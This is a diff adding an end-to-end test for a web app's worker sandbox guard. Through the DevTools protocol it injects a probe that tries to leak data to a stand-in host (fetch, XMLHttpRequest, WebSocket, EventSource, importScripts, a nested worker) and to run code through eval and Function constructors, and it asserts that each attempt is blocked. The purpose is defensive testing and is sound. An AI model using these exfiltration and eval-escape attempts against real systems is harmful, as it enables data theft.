@@ -1,0 +1,108 @@
+// The workers hold the customer data, and the page's <meta> CSP does not reach them: each worker
+// installs src/workers/guard.ts before any other code. From inside each worker (the two pipeline
+// workers, and the read worker while it reads a file) this tries to send data out and to run
+// text as code; every attempt must fail. (Playwright's own worker.evaluate needs eval, which the
+// guard removes, so the probe runs through the DevTools protocol's Runtime.evaluate.)
+import { expect, until } from './helpers.mjs';
+
+/** What the probe tries, as an expression evaluated in the worker (a promise of a JSON string). */
+const PROBE = `(async () => {
+  const r = { guard: self.__valuesegGuard === true };
+  const attempt = async (name, f) => {
+    try {
+      const v = await f();
+      r[name] = 'ran: ' + String(v).slice(0, 60);
+    } catch (e) {
+      r[name] = 'blocked: ' + (e && e.name);
+    }
+  };
+  await attempt('fetch', () => fetch('https://example.com/leak'));
+  await attempt('fetch from the prototype chain', () => {
+    for (let o = self; o; o = Object.getPrototypeOf(o)) {
+      const d = Object.getOwnPropertyDescriptor(o, 'fetch');
+      if (d && typeof d.value === 'function') return d.value.call(self, 'https://example.com/leak');
+    }
+    throw new TypeError('no fetch anywhere');
+  });
+  await attempt('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', 'https://example.com/leak'); x.send(); return 'sent'; });
+  await attempt('WebSocket', () => new WebSocket('wss://example.com/leak'));
+  await attempt('EventSource', () => new EventSource('https://example.com/leak'));
+  await attempt('importScripts', () => importScripts('https://example.com/leak.js'));
+  await attempt('nested Worker', () => new Worker('data:text/javascript,fetch("https://example.com/leak")'));
+  await attempt('eval', () => eval('1 + 1'));
+  await attempt('indirect eval', () => (0, self.eval)('1 + 1'));
+  await attempt('new Function', () => new Function('return 1')());
+  await attempt('a function constructor', () => (() => {}).constructor('return 1')());
+  await attempt('an async function constructor', () => (async () => {}).constructor('return 1')());
+  await attempt('a generator constructor', () => (function* () {}).constructor('yield 1')().next().value);
+  await attempt('putting fetch back', () => { try { self.fetch = () => 'mine'; } catch {} try { delete self.fetch; } catch {} return self.fetch('x'); });
+  return JSON.stringify(r);
+})()`;
+
+/**
+ * Runs PROBE in every dedicated worker of the page, through a CDP session of the page: workers are
+ * attached (not flattened), and Runtime.evaluate is sent to each with Target.sendMessageToTarget.
+ */
+async function probeWorkers(context, page, want, count) {
+  const cdp = await context.newCDPSession(page);
+  const sessions = new Map(); // sessionId → url
+  const replies = new Map();
+  cdp.on('Target.attachedToTarget', (e) => {
+    if (process.env.E2E_DEBUG) console.log('attached', e.targetInfo.type, e.targetInfo.url);
+    if (e.targetInfo.type === 'worker') sessions.set(e.sessionId, e.targetInfo.url);
+  });
+  cdp.on('Target.receivedMessageFromTarget', (e) => {
+    const m = JSON.parse(e.message);
+    if (m.id !== undefined) replies.set(`${e.sessionId} ${m.id}`, m);
+  });
+  await cdp.send('Target.setAutoAttach', { autoAttach: true, waitForDebuggerOnStart: false, flatten: false });
+  await until(() => [...sessions.values()].filter(want).length, (n) => n >= count, `${count} worker(s) to probe`, 30_000);
+  const results = {};
+  let id = 1;
+  for (const [sessionId, url] of sessions) {
+    if (!want(url)) continue;
+    const msg = { id: id++, method: 'Runtime.evaluate', params: { expression: PROBE, awaitPromise: true, returnByValue: true } };
+    await cdp.send('Target.sendMessageToTarget', { sessionId, message: JSON.stringify(msg) });
+    const reply = await until(() => replies.get(`${sessionId} ${msg.id}`), (r) => r !== undefined, `the probe's answer from ${url}`, 20_000);
+    if (reply.error || reply.result.exceptionDetails) throw new Error(`the probe failed in ${url}: ${JSON.stringify(reply.error ?? reply.result.exceptionDetails)}`);
+    results[`${url} (${sessionId})`] = JSON.parse(reply.result.result.value);
+  }
+  await cdp.detach();
+  return results;
+}
+
+function expectBlocked(results, count) {
+  const urls = Object.keys(results);
+  expect(urls.length >= count, `probed ${urls.length} worker(s), expected ${count}: ${urls.join(', ')}`);
+  for (const [url, r] of Object.entries(results)) {
+    expect(r.guard === true, `${url}: the guard did not run`);
+    for (const [what, outcome] of Object.entries(r)) {
+      if (what === 'guard') continue;
+      expect(String(outcome).startsWith('blocked'), `${url}: ${what} was not blocked (${outcome})`);
+    }
+  }
+}
+
+export const tests = {
+  async 'from inside each pipeline worker, fetch, XMLHttpRequest, WebSocket, EventSource, importScripts, nested workers, eval and Function are all blocked'({ page, base, context }) {
+    await page.goto(base);
+    await page.getByTestId('status').filter({ hasText: /600 customers/ }).waitFor({ timeout: 30_000 });
+    const results = await probeWorkers(context, page, (u) => u.includes('pipeline.worker'), 2);
+    expectBlocked(results, 2);
+    // The page still computes after the probes.
+    await page.getByTestId('status').filter({ hasText: /600 customers/ }).waitFor({ timeout: 30_000 });
+  },
+
+  async 'from inside the read worker, while it reads a file, the same attempts are all blocked'({ page, base, context }) {
+    await page.goto(base);
+    await page.getByTestId('status').filter({ hasText: /600 customers/ }).waitFor({ timeout: 30_000 });
+    // A file large enough (about 20 MB) that the worker is still reading when probed.
+    const row = 'C0001,123.45,678.9,0.05,some text here\n';
+    const buffer = Buffer.from('customer_id,deposits,loans,growth,note\n' + row.repeat(500_000));
+    await page.getByTestId('file-input').setInputFiles({ name: 'large.csv', mimeType: 'text/csv', buffer });
+    await page.getByTestId('load-progress').waitFor({ timeout: 30_000 });
+    const results = await probeWorkers(context, page, (u) => u.includes('read.worker'), 1);
+    expectBlocked(results, 1);
+    await page.getByTestId('cancel-load').click().catch(() => {});
+  },
+};
